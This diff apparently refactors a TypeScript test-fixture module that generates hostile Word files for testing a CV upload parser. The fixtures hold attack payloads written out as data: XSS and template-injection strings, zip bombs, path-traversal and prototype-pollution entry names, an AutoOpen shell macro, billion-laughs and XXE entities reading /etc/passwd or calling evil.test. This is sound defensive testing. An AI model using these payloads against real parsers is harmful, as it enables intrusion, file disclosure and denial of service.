@@ -1,8 +1,8 @@
 import { zipSync, type Zippable } from 'fflate';
-import { container } from './container.ts';
-import { damaged, type Draw, type Hostile } from './hostile.ts';
+import { makeContainer } from './container.ts';
+import { damage, type Draw, type Hostile } from './hostile.ts';
 import { makeDoc } from './make-doc.ts';
-import { text } from './make-pdf.ts';
+import { encodeText } from './make-pdf.ts';
 
 /** The namespace of Word's elements. */
 export const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
@@ -19,7 +19,11 @@ export function paragraph(content: string, properties = ''): string {
 
 /** A Word file with the given XML parts. */
 export function makeDocx(xml: string | Uint8Array, more: Zippable = {}): Uint8Array {
-  return zipSync({ '[Content_Types].xml': text('<Types/>'), 'word/document.xml': typeof xml === 'string' ? text(xml) : xml, ...more });
+  return zipSync({
+    '[Content_Types].xml': encodeText('<Types/>'),
+    'word/document.xml': typeof xml === 'string' ? encodeText(xml) : xml,
+    ...more,
+  });
 }
 
 /** Word files that unpack to too much, define entities, hide text, carry macros, or are broken. */
@@ -27,18 +31,18 @@ export function hostileWordFiles(draw: Draw): Hostile[] {
   const good = makeDocx(documentXml(paragraph(line).repeat(5)));
   const doc = makeDoc(`${line}\r`.repeat(20));
   return [
-    ...words(),
-    ...zips(),
+    ...textFiles(),
+    ...zipFiles(),
     ...namesInZips(),
-    ...xml(),
+    ...xmlFiles(),
     ...oldFiles(doc),
-    ...damaged('docx', good, draw, 10, 14),
-    ...damaged('doc', doc, draw, 6, 12),
+    ...damage('docx', good, draw, 10, 14),
+    ...damage('doc', doc, draw, 6, 12),
   ];
 }
 
 /** Files whose text must be harmless after reading. */
-function words(): Hostile[] {
+function textFiles(): Hostile[] {
   const fieldNames = [
     '&lt;img src=x onerror=alert(1)&gt; Jane Doe',
     '{{constructor.constructor("alert(1)")()}} Jane Doe',
@@ -59,26 +63,30 @@ function words(): Hostile[] {
     { name: 'a field that requests an address', bytes: makeDocx(documentXml(field + paragraph(line))), expected: 'read' },
     {
       name: 'a PDF with the name of a zip file',
-      bytes: Uint8Array.from([0x50, 0x4b, 3, 4, ...text('%PDF-1.7 words of a CV')]),
+      bytes: Uint8Array.from([0x50, 0x4b, 3, 4, ...encodeText('%PDF-1.7 words of a CV')]),
       expected: 'cv_broken',
     },
   ];
 }
 
-function zips(): Hostile[] {
-  const sixty = new Uint8Array(60_000_000).fill(0x20);
-  const lying = makeDocx(documentXml(paragraph(line)) + ' '.repeat(9_000_000));
-  const nested = zipSync({ 'inner.zip': zipSync({ 'word/document.xml': sixty }) });
+function zipFiles(): Hostile[] {
+  const sixtyMegabytes = new Uint8Array(60_000_000).fill(0x20);
+  const largeDocument = makeDocx(documentXml(paragraph(line)) + ' '.repeat(9_000_000));
+  const nested = zipSync({ 'inner.zip': zipSync({ 'word/document.xml': sixtyMegabytes }) });
   const many = Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`word/${index}.xml`, new Uint8Array(1)]));
   return [
-    { name: 'a document of 60 MB', bytes: makeDocx(sixty), expected: 'cv_bomb' },
-    { name: 'a picture of 60 MB', bytes: makeDocx(documentXml(paragraph(line)), { 'word/media/a.bmp': sixty }), expected: 'cv_bomb' },
-    { name: 'a document of 9 MB', bytes: lying, expected: 'cv_bomb' },
-    { name: 'a document with a false small size', bytes: withSize(lying, 1000), expected: 'any' },
+    { name: 'a document of 60 MB', bytes: makeDocx(sixtyMegabytes), expected: 'cv_bomb' },
+    {
+      name: 'a picture of 60 MB',
+      bytes: makeDocx(documentXml(paragraph(line)), { 'word/media/a.bmp': sixtyMegabytes }),
+      expected: 'cv_bomb',
+    },
+    { name: 'a document of 9 MB', bytes: largeDocument, expected: 'cv_bomb' },
+    { name: 'a document with a false small size', bytes: withSize(largeDocument, 1000), expected: 'any' },
     { name: '3,000 entries', bytes: makeDocx(documentXml(paragraph(line)), many), expected: 'cv_bomb' },
     { name: 'a zip file in a zip file', bytes: nested, expected: 'cv_type' },
-    { name: 'a spreadsheet', bytes: zipSync({ 'xl/workbook.xml': text('<workbook/>') }), expected: 'cv_type' },
-    { name: 'a presentation', bytes: zipSync({ 'ppt/presentation.xml': text('<p/>') }), expected: 'cv_type' },
+    { name: 'a spreadsheet', bytes: zipSync({ 'xl/workbook.xml': encodeText('<workbook/>') }), expected: 'cv_type' },
+    { name: 'a presentation', bytes: zipSync({ 'ppt/presentation.xml': encodeText('<p/>') }), expected: 'cv_type' },
     { name: 'an empty zip file', bytes: zipSync({}), expected: 'cv_type' },
   ];
 }
@@ -87,28 +95,28 @@ function namesInZips(): Hostile[] {
   return [
     {
       name: 'names that leave the folder',
-      bytes: makeDocx(documentXml(paragraph(line)), { '../../etc/passwd': text('x'), '/word/document.xml': text('x') }),
+      bytes: makeDocx(documentXml(paragraph(line)), { '../../etc/passwd': encodeText('x'), '/word/document.xml': encodeText('x') }),
       expected: 'read',
     },
     {
       name: 'names that are HTML',
-      bytes: makeDocx(documentXml(paragraph(line)), { '<img src=x onerror=alert(1)>.xml': text('x') }),
+      bytes: makeDocx(documentXml(paragraph(line)), { '<img src=x onerror=alert(1)>.xml': encodeText('x') }),
       expected: 'read',
     },
     {
       name: 'a prototype as a name',
-      bytes: makeDocx(documentXml(paragraph(line)), { '__proto__/x': text('x'), constructor: text('x') }),
+      bytes: makeDocx(documentXml(paragraph(line)), { '__proto__/x': encodeText('x'), constructor: encodeText('x') }),
       expected: 'read',
     },
     {
       name: 'macros',
-      bytes: makeDocx(documentXml(paragraph(line)), { 'word/vbaProject.bin': text('Sub AutoOpen() Shell "cmd"') }),
+      bytes: makeDocx(documentXml(paragraph(line)), { 'word/vbaProject.bin': encodeText('Sub AutoOpen() Shell "cmd"') }),
       expected: 'read',
     },
     {
       name: 'a template at another address',
       bytes: makeDocx(documentXml(paragraph(line)), {
-        'word/_rels/settings.xml.rels': text(
+        'word/_rels/settings.xml.rels': encodeText(
           '<Relationships><Relationship Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>',
         ),
       }),
@@ -134,15 +142,15 @@ function withSize(bytes: Uint8Array, size: number): Uint8Array {
   return copy;
 }
 
-function xml(): Hostile[] {
-  const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, index) => `<!ENTITY a${index} "${`&a${index === 0 ? '' : index - 1};`.repeat(10)}">`).join('')}]>`;
+function xmlFiles(): Hostile[] {
+  const billionLaughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, index) => `<!ENTITY a${index} "${`&a${index === 0 ? '' : index - 1};`.repeat(10)}">`).join('')}]>`;
   const outside = (address: string) => documentXml(paragraph('&x;'), `<!DOCTYPE x [<!ENTITY x SYSTEM "${address}">]>`);
   const deep = (tag: string, count: number) => `<${tag}>`.repeat(count) + paragraph(line) + `</${tag}>`.repeat(count);
   const table = (inner: string) => `<w:tbl><w:tr><w:tc>${inner}</w:tc></w:tr></w:tbl>`;
   const tables = Array.from({ length: 100 }).reduce<string>(table, paragraph(line));
   const broken = ['<w:p>', '</w:p>', '<w:p w:a=1/>', '<', '&nothing;', '\u0001', '<w:p/><w:p/>\u0000', ']]>'];
   return [
-    { name: 'nested entities', bytes: makeDocx(documentXml(paragraph('&a19;'), laughs)), expected: 'cv_broken' },
+    { name: 'nested entities', bytes: makeDocx(documentXml(paragraph('&a19;'), billionLaughs)), expected: 'cv_broken' },
     { name: 'an entity from a file', bytes: makeDocx(outside('file:///etc/passwd')), expected: 'cv_broken' },
     { name: 'an entity from an address', bytes: makeDocx(outside('http://evil.test/x')), expected: 'cv_broken' },
     {
@@ -163,14 +171,14 @@ function xml(): Hostile[] {
     {
       name: 'styles based on each other',
       bytes: makeDocx(documentXml(paragraph(line, '<w:rStyle w:val="a"/>')), {
-        'word/styles.xml': text(
+        'word/styles.xml': encodeText(
           `<w:styles ${w}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
         ),
       }),
       expected: 'read',
     },
     { name: 'no text', bytes: makeDocx(documentXml('<w:p/>')), expected: 'cv_empty' },
-    { name: 'only a picture', bytes: makeDocx(documentXml('<w:p/>'), { 'word/media/scan.jpg': text('x') }), expected: 'cv_scanned' },
+    { name: 'only a picture', bytes: makeDocx(documentXml('<w:p/>'), { 'word/media/scan.jpg': encodeText('x') }), expected: 'cv_scanned' },
     {
       name: 'symbols out of range',
       bytes: makeDocx(documentXml(`${paragraph(line)}<w:p><w:r><w:sym w:char="FFFFFFFF"/></w:r></w:p>`)),
@@ -191,13 +199,13 @@ function oldFiles(doc: Uint8Array): Hostile[] {
     { name: 'a Word 97 file with a password', bytes: makeDoc(line, 0x0300), expected: 'cv_encrypted' },
     {
       name: 'a Word file with a password',
-      bytes: container({ EncryptedPackage: new Uint8Array(5000), EncryptionInfo: new Uint8Array(100) }),
+      bytes: makeContainer({ EncryptedPackage: new Uint8Array(5000), EncryptionInfo: new Uint8Array(100) }),
       expected: 'cv_encrypted',
     },
-    { name: 'an old spreadsheet', bytes: container({ Workbook: new Uint8Array(5000) }), expected: 'cv_type' },
+    { name: 'an old spreadsheet', bytes: makeContainer({ Workbook: new Uint8Array(5000) }), expected: 'cv_type' },
     {
       name: 'a Word 97 file with macros',
-      bytes: container({ WordDocument: new Uint8Array(5000), 'Macros/VBA/Module1': text('Shell') }),
+      bytes: makeContainer({ WordDocument: new Uint8Array(5000), 'Macros/VBA/Module1': encodeText('Shell') }),
       expected: 'cv_broken',
     },
     {
@@ -205,13 +213,13 @@ function oldFiles(doc: Uint8Array): Hostile[] {
       bytes: Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array.from({ length: 2000 }, () => 0)]),
       expected: 'cv_broken',
     },
-    { name: 'circular sector chains', bytes: withCircles(pieces), expected: 'any' },
+    { name: 'circular sector chains', bytes: makeChainsCircular(pieces), expected: 'any' },
     { name: 'a text with a huge declared length', bytes: makeDoc(line.padEnd(400_000, ' x')), expected: 'cv_too_large' },
   ];
 }
 
 /** Makes every entry of the first sector table refer to the first sector. */
-function withCircles(bytes: Uint8Array): Uint8Array {
+function makeChainsCircular(bytes: Uint8Array): Uint8Array {
   const copy = bytes.slice();
   const view = new DataView(copy.buffer);
   for (let at = 512; at < Math.min(copy.length, 4608); at += 4) view.setInt32(at, 1, true);
